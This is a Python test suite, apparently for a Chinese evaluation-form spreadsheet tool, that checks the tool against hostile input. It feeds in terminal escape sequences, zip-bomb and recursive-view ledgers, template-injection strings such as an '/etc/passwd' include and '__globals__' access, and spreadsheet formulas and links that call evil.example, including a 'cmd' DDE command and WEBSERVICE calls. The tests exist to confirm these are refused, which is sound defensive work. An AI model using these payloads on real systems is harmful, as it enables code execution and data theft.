"""What a stranger sends besides workbooks: names that steer the terminal, pipes, templates that grow or reach out, a ledger."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import tracemalloc
import zlib
from collections.abc import Callable
from contextlib import closing
from decimal import Decimal
from pathlib import Path

import pytest
from full_book import hand_made, parts_of, rewritten, sheet_xml
from jixiao.addin.batch.stores import Store
from jixiao.addin.cli.main import run
from jixiao.addin.insert.apply import apply_edits
from jixiao.addin.insert.graft import Template
from jixiao.addin.workbook.workbook import WorkbookFile
from jixiao.macros.forms.records import record_to_json
from jixiao.macros.sheet.bad_text import BadText
from jixiao.macros.sheet.cell_sandbox import compiled
from jixiao.macros.sheet.edits import NewSheet, RowCopy
from jixiao.templates.library import HOME, find_faults, say
from support import case_record, make_book, stops

pytestmark = pytest.mark.slow

REGION = Path(__file__).resolve().parents[2] / "docs" / "examples" / "region"
EVIL = "\x1b[2J\x1b]0;改\x07\x9b31m\u202e\r"
STEERING = set("\x1b\x07\x9b\u202e\r\x00")


@pytest.fixture
def form(tmp_path: Path) -> Path:
    return make_book(tmp_path / "表.xlsx", case_record("selfeval-2023-004-07"))


def spoilt(value: object) -> object:
    """A record of which every text of its own steers a terminal."""
    if isinstance(value, dict):
        kept = ("id", "form", "level1", "level2", "target", "actual", "points", "score", "unit")
        return {key: item if key in kept else spoilt(item) for key, item in value.items()}
    if isinstance(value, list):
        return [spoilt(item) for item in value]
    return EVIL + value if isinstance(value, str) and value else value


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("words", [
    ["read"], ["read", "--json"], ["check"], ["check", "--json"], ["score", "--dry-run"], ["verify"], ["explain", "H15"], ["finalize"],
])
def test_no_text_or_name_steers_the_terminal(words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Cells, sheet names and file names hold what clears the screen, renames the window, turns the line."""
    data = spoilt(json.loads(json.dumps(record_to_json(case_record("selfeval-2023-004-07")), default=float)))
    (tmp_path / "记录.json").write_text(json.dumps(data), encoding="utf-8")
    path = tmp_path / f"{EVIL}表.xlsx"
    assert run(["new", "--data", str(tmp_path / "记录.json"), "-o", str(path)]) == 0
    run([words[0], str(path), *words[1:]])
    said = capsys.readouterr()
    assert said.out + said.err and not STEERING & set(said.out + said.err)
    if "--json" in words:
        assert json.loads(said.out)


@pytest.mark.usefixtures("home")
def test_a_name_that_is_no_text_is_a_file_like_any_other(form: Path, tmp_path: Path) -> None:
    """Bytes that are no UTF-8, as an archive of another system leaves them; in a batch, and in a summary."""
    folder = tmp_path / "各单位"
    folder.mkdir()
    for name in (b"\xd7\xd4.xlsx", b"\xd7\xd5.xlsx"):
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_bytes(form.read_bytes())
    form.rename(folder / "表.xlsx")
    assert run(["batch", "check", str(folder), "-o", str(tmp_path / "结果"), "--processes", "1"]) in (0, 1)
    with sqlite3.connect(tmp_path / "结果" / "ledger.sqlite") as ledger:
        found = dict(ledger.execute("select name, verdict from files"))
    assert set(found) == {"表.xlsx", "\\xd7\\xd4.xlsx", "\\xd7\\xd5.xlsx"} and set(found.values()) <= {"clean", "error", "warning", "notice"}
    assert run(["summary", str(folder), "-o", str(tmp_path / "汇总.xlsx")]) in (0, 1)


def test_a_ledger_of_a_stranger_takes_no_file_outside_the_output(tmp_path: Path) -> None:
    (tmp_path / "要紧.xlsx").write_bytes(b"x")
    (tmp_path / "出").mkdir()
    with stops("batch_address"):
        Store(str(tmp_path / "出")).drop("../要紧.xlsx")
    assert (tmp_path / "要紧.xlsx").exists()


def _grown(base: sqlite3.Connection) -> None:
    """What is kept of a file grows to 200 MB when it is read."""
    base.execute("update files set forms=?", (zlib.compress(b"[" + b" " * 200_000_000, 9),))


def _spoilt(base: sqlite3.Connection) -> None:
    base.execute("update files set forms=?", (zlib.compress(b'[[{"n":"1e999999999999999999"}]]'),))


def _deep(base: sqlite3.Connection) -> None:
    base.execute("update files set forms=?", (zlib.compress(b"[" * 1_000_000),))


def _text(base: sqlite3.Connection) -> None:
    base.execute("update files set forms='文字'")


def _endless(base: sqlite3.Connection) -> None:
    """A view in place of a table: reading it never ends."""
    base.execute("drop table job")
    base.execute("create view job as with recursive n(x) as (select 1 union all select x+1 from n) select x as place, x as how from n order by x")


def _trigger(base: sqlite3.Connection) -> None:
    base.execute("create trigger t after update on files begin delete from forms; end")


def _other_kinds(base: sqlite3.Connection) -> None:
    """The layout is right, a sentence is bytes."""
    base.execute("update files set said=?", (b"\xff",))


def _findings_in_words(base: sqlite3.Connection) -> None:
    base.execute("update forms set errors='x'")


def _form_of_numbers(base: sqlite3.Connection) -> None:
    """What is kept of a form is a form, with a number where its name belongs."""
    (forms,) = base.execute("select forms from files").fetchone()
    head, *parts = zlib.decompress(forms).decode().split("\n")
    data = json.loads(head)
    data[1] = 1
    base.execute("update files set forms=?", (zlib.compress("\n".join((json.dumps(data), *parts)).encode()),))


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize(
    "harm", [_grown, _spoilt, _deep, _text, _endless, _trigger, _other_kinds, _findings_in_words, _form_of_numbers])
def test_a_ledger_of_a_stranger_is_torn(
    harm: Callable[[sqlite3.Connection], None], form: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The batch is begun again with a ledger that someone changed: one sentence, in no time, and within a budget."""
    (tmp_path / "各单位").mkdir()
    form.rename(tmp_path / "各单位" / form.name)
    words = ["batch", "check", str(tmp_path / "各单位"), "-o", str(tmp_path / "出"), "--processes", "1"]
    assert run(words) in (0, 1)
    with closing(sqlite3.connect(tmp_path / "出" / "ledger.sqlite")) as base, base:
        harm(base)
    capsys.readouterr()
    tracemalloc.start()
    try:
        assert run(words) == 3
        assert tracemalloc.get_traced_memory()[1] < 150_000_000
    finally:
        tracemalloc.stop()
    assert say("batch_torn", path=str(tmp_path / "出" / "ledger.sqlite")) in capsys.readouterr().err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("words", [
    ["new", "--data", "管道.json", "-o", "新.xlsx"], ["new", "--data", "/dev/zero", "-o", "新.xlsx"], ["import", "管道.docx"],
    ["import", "管道.pdf"], ["learn", "管道.jxform"], ["addin", "check", "管道.xlam"], ["report", "表.xlsx", "--template", "管道.docx", "-o", "报告.docx"],
    ["read", "管道.xls"], ["read", "管道.ods"], ["verify", "/dev/zero"],
])
def test_a_pipe_or_a_device_is_never_waited_for(
    words: list[str], form: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(form.parent)
    (special,) = [word for word in words if word.startswith(("管道", "/dev"))]
    if special.startswith("管道"):
        os.mkfifo(special)
    assert run(words) == 3
    assert capsys.readouterr().err.strip() == say("no_plain_file", path=special)


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("words", [
    ["learn", "表.xlsx", "-o", "占"], ["learn", "表.xlsx", "-o", "占/内"], ["demo", "-o", "占"], ["batch", "check", "各", "-o", "占"],
])
def test_a_file_where_a_folder_is_wanted_is_said(
    words: list[str], form: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(form.parent)
    Path("占").write_bytes(b"x")
    Path("各").mkdir()
    Path("各", "表.xlsx").write_bytes(b"x")
    assert run(words) == 3
    assert say("not_a_folder", path=words[-1]) in capsys.readouterr().err
    assert Path("占").read_bytes() == b"x"


@pytest.mark.parametrize("text", [
    "{{ a ~ a }}", "{{ a * 999999999 }}", "{{ '%999999999d' % 1 }}", "{{ a.ljust(999999999) }}", "{{ a.join(b) }}", "{{ 9 ** 9 ** 9 }}",
    "{% for x in b %}{% for y in b %}{{ a }}{% endfor %}{% endfor %}", "{% set c = a ~ a %}{{ c }}", "{% macro m() %}{{ m() }}{% endmacro %}",
    "{% include '/etc/passwd' %}", "{{ a.__class__ }}", "{{ sum.__globals__ }}", "{{ (a.format)('x') }}", "{{ 1 / 0 }}", "{{ a / 2 }}", "{{ a < 1 }}",
    "{{ a[:a] }}", "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}", "{{ " + "not " * 5000 + "a }}", "{{ " + "9" * 5000 + " }}",
])
def test_a_text_of_a_template_can_neither_grow_nor_reach_out(text: str) -> None:
    with pytest.raises(BadText):
        compiled(text, None).evaluate({"a": "x", "b": ["y"], "sum": lambda _: 1})


def test_what_templates_of_ours_say_is_let_through() -> None:
    values = {"start": None, "year": 2023, "sum": lambda _: 3, "kind": "结转项目"}
    for text, made in {
        "（{{ year }}年度）": "（2023年度）", "{{ (start or '    ')[:4] }}年": "    年", "{{ kind | tick('结转项目') }}": "■结转项目",
        "{{ sum('x') / 100 if year is not none else '' }}": "0.03",
    }.items():
        assert compiled(text, None).evaluate(values) == made


_DRAWING = """<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>
<xdr:to><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>
<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="章"><a:hlinkClick r:id="rId2"/></xdr:cNvPr><xdr:cNvPicPr/></xdr:nvPicPr>
<xdr:blipFill><a:blip r:link="rId1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"""
_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_ONE = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'
_OUT = ' TargetMode="External"'


def reaching(parts: dict[str, bytes]) -> None:
    """A picture that lies on a server of the stranger's, in the first sheet."""
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(
        b"</worksheet>", b'<drawing xmlns:q="http://schemas.openxmlformats.org/officeDocument/2006/relationships" q:id="rIdD"/></worksheet>')
    name = "xl/worksheets/_rels/sheet1.xml.rels"
    one = _ONE.format("rIdD", "drawing", "../drawings/drawing9.xml", "")
    parts[name] = parts[name].replace(b"</R", one.encode() + b"</R") if name in parts else _RELATIONS.format(one).encode()
    parts["xl/drawings/drawing9.xml"] = _DRAWING.encode()
    parts["xl/drawings/_rels/drawing9.xml.rels"] = _RELATIONS.format(
        _ONE.format("rId1", "image", "file://evil.example/share/x.png", _OUT) + _ONE.format("rId2", "hyperlink", "http://evil.example/", _OUT)).encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/drawings/drawing9.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>')


def test_a_form_made_from_a_stranger_s_template_fetches_nothing(tmp_path: Path) -> None:
    template = rewritten(hand_made(tmp_path / "表样.xlsx", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')), reaching)
    book = WorkbookFile.new()
    held = Template(WorkbookFile.open(template).book, book.book, template)
    apply_edits(book.book, [NewSheet("新", "表样", (RowCopy(1, {}),), ())], lambda _: held)
    book.save(tmp_path / "新.xlsx", backup=False)
    parts = parts_of(tmp_path / "新.xlsx")
    (drawing,) = [data for part, data in parts.items() if part.startswith("xl/drawings/drawing")]
    assert b"blip" in drawing and b"rId" not in drawing
    assert not [part for part, data in parts.items() if b"evil.example" in data]



_CHART = """<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:plotArea><c:layout/><c:barChart>
<c:barDir val="bar"/><c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>'\\\\evil.example\\[x.xlsx]S'!$A$1</c:f></c:strRef></c:tx>
<c:cat><c:strRef><c:f>[1]S!$A$1:$A$9</c:f></c:strRef></c:cat><c:val><c:numRef><c:f>Sheet1!$A$1:$A$2</c:f></c:numRef></c:val></c:ser>
</c:barChart></c:plotArea></c:chart></c:chartSpace>"""
_SHAPE = """<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">
<xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>
<xdr:ext cx="9" cy="9"/><xdr:sp macro="[0]!evil_macro" textlink="[1]S!$A$1"><xdr:nvSpPr><xdr:cNvPr id="3" name="钮"/><xdr:cNvSpPr/></xdr:nvSpPr>
<xdr:spPr/></xdr:sp><xdr:clientData/></xdr:oneCellAnchor>
<xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>
<xdr:ext cx="9" cy="9"/><xdr:graphicFrame macro="evil_macro"><xdr:nvGraphicFramePr><xdr:cNvPr id="4" name="图"/><xdr:cNvGraphicFramePr/>
</xdr:nvGraphicFramePr><xdr:xfrm/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">
<c:chart r:id="rId3"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>"""
#: What fetches or runs something where a workbook is opened, in the rules that a sheet of a template hands on.
_REACHING = (
    "WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)=&quot;&quot;", "cmd|'/c evil.example'!A1", "[1]evil!$A$1", "'C:\\[evil.xlsx]S'!$A$1:$A$9",
    "A1:[1]evil!B2", "RTD(&quot;evil.example&quot;,,1)", "_xlfn.IMAGE(&quot;http://evil.example/&quot;)", "CALL(&quot;evil&quot;,&quot;x&quot;,&quot;J&quot;)",
    "RunPython(&quot;evil&quot;)", "INDIRECT(&quot;evil&quot;)",
)


def _with_rules(rules: str, checks: str) -> str:
    held = f'<conditionalFormatting sqref="A1:B2">{rules}</conditionalFormatting><dataValidations>{checks}</dataValidations>'
    return sheet_xml('<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>WEBSERVICE("http://evil.example/")</f><v>1</v></c></row>', held)


def _made_from(template: Path) -> dict[str, bytes]:
    """The parts of a workbook with a sheet made from a template."""
    book = WorkbookFile.new()
    held = Template(WorkbookFile.open(template).book, book.book, template)
    apply_edits(book.book, [NewSheet("新", "表样", (RowCopy(1, {(1): (Decimal(1), None, None)}),), ())], lambda _: held)
    book.save(template.with_name("新.xlsx"), backup=False)
    return parts_of(template.with_name("新.xlsx"))


@pytest.mark.parametrize("formula", _REACHING)
def test_a_rule_of_a_stranger_s_template_reaches_nothing(formula: str, tmp_path: Path) -> None:
    good = '<cfRule type="expression" priority="2"><formula>AND(A1&gt;0,JX_RATE(A1,B1)&lt;1)</formula></cfRule>'
    scale = f'<cfRule type="iconSet" priority="3"><iconSet><cfvo type="formula" val="{formula}"/><cfvo type="num" val="9"/></iconSet></cfRule>'
    rules = f'<cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule>{good}{scale}'
    checks = "".join(
        f'<dataValidation type="list" sqref="A{row}"><formula1>{text}</formula1></dataValidation>'
        for row, text in ((1, formula), (1, "&quot;优,良,中,差&quot;")))
    parts = _made_from(hand_made(tmp_path / "表样.xlsx", _with_rules(rules, checks)))
    (sheet,) = [data for name, data in parts.items() if b"JX_RATE" in data]
    assert not [name for name, data in parts.items() if b"evil" in data or b"INDIRECT" in data or b"CALL" in data]
    assert sheet.count(b"<cfRule") == 1 and sheet.count(b"<dataValidation ") == 1 and "优,良".encode() in sheet and b"[1]" not in sheet


def test_shapes_and_charts_of_a_stranger_s_template_reach_nothing(tmp_path: Path) -> None:
    def reach(parts: dict[str, bytes]) -> None:
        reaching(parts)
        chart = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
        parts["xl/drawings/drawing9.xml"], parts["xl/charts/chart9.xml"] = _SHAPE.encode(), _CHART.encode()
        parts["xl/drawings/_rels/drawing9.xml.rels"] = _RELATIONS.format(_ONE.format("rId3", "chart", "../charts/chart9.xml", "")).encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", f'<Override PartName="/xl/charts/chart9.xml" ContentType="{chart}"/></Types>'.encode())

    parts = _made_from(rewritten(hand_made(tmp_path / "表样.xlsx", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>')), reach))
    assert [name for name in parts if name.startswith("xl/charts/chart")] and [name for name in parts if name.startswith("xl/drawings/drawing")]
    assert not [name for name, data in parts.items() if b"evil" in data or b"[1]" in data]


@pytest.mark.parametrize(("pattern", "said"), [
    ("(a+)+$", "template_slow"), ("a*b", "template_slow"), ("(a|a){0,30}b", "template_slow"), ("(.)\\\\1", "template_slow"),
    ("(?P<n>a)", "template_slow"), ("(?i)a", "template_pattern"), ("(达到|超过)?.{0,20}以上", ""),
])
def test_a_pattern_of_a_stranger_s_that_may_take_long_is_refused(
    pattern: str, said: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "checks.toml").write_text(f'[unmet_full.params]\nunmet = ["{pattern}"]\n', encoding="utf-8")
    code = run(["forms", "check", str(tmp_path), "--json"])
    reasons = [item["reason"] for item in json.loads(capsys.readouterr().out)]
    assert code == (1 if said else 0) and len(reasons) == bool(said)
    assert not said or reasons[0].endswith(say(said, key="", value="", at=1).rpartition("”")[2])


def test_the_patterns_of_the_program_may_stand_in_a_folder(tmp_path: Path) -> None:
    (tmp_path / "checks.toml").write_bytes((HOME / "checks.toml").read_bytes())
    assert not find_faults([HOME, tmp_path])[1]


@pytest.mark.usefixtures("home")
def test_a_template_of_millions_of_bytes_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "表样"
    shutil.copytree(REGION, folder)
    hand_made(folder / "forms" / "example-2024.xlsx", sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>' + " " * 5_000_000))
    assert run(["--templates", str(folder), "new", "example-2024", "-o", str(tmp_path / "出.xlsx")]) == 3
    assert say("template_too_large", limit=4_000_000) in capsys.readouterr().err and not (tmp_path / "出.xlsx").exists()


@pytest.mark.usefixtures("home")
@pytest.mark.parametrize("name", ["forms/example-2024.toml", "forms/example-2024.xlsx", "forms", "checks.toml"])
def test_a_link_that_leads_out_of_a_template_folder_is_not_followed(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What lies behind it is of this machine, and could come to light in a message or in a form that is sent back."""
    folder, secret = tmp_path / "表样", tmp_path / "别处"
    shutil.copytree(REGION, folder)
    kept = folder / name
    if kept.is_dir():
        shutil.move(kept, secret)
    elif kept.exists():
        kept.rename(secret)
    else:
        secret.write_text("机密 = 一\n", encoding="utf-8")
    kept.symlink_to(secret)
    assert run(["--templates", str(folder), "new", "example-2024", "-o", str(tmp_path / "出.xlsx")]) == 3
    told = capsys.readouterr().err
    assert f"“{kept.name}”" in told and say("template_outside") in told and "机密" not in told and not (tmp_path / "出.xlsx").exists()


@pytest.mark.usefixtures("home")
def test_a_link_inside_a_template_folder_is_followed(tmp_path: Path) -> None:
    folder = tmp_path / "表样"
    shutil.copytree(REGION, folder)
    (folder / "forms" / "example-2024.xlsx").rename(folder / "真.bin")
    (folder / "forms" / "example-2024.xlsx").symlink_to("../真.bin")
    assert run(["--templates", str(folder), "new", "example-2024", "-o", str(tmp_path / "出.xlsx")]) == 0


@pytest.mark.usefixtures("home")
def test_a_ring_of_links_in_a_template_folder_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "表样"
    shutil.copytree(REGION, folder)
    (folder / "环").symlink_to("环")
    assert run(["--templates", str(folder), "new", "example-2024", "-o", str(tmp_path / "出.xlsx")]) == 3
    assert "“环”" in capsys.readouterr().err
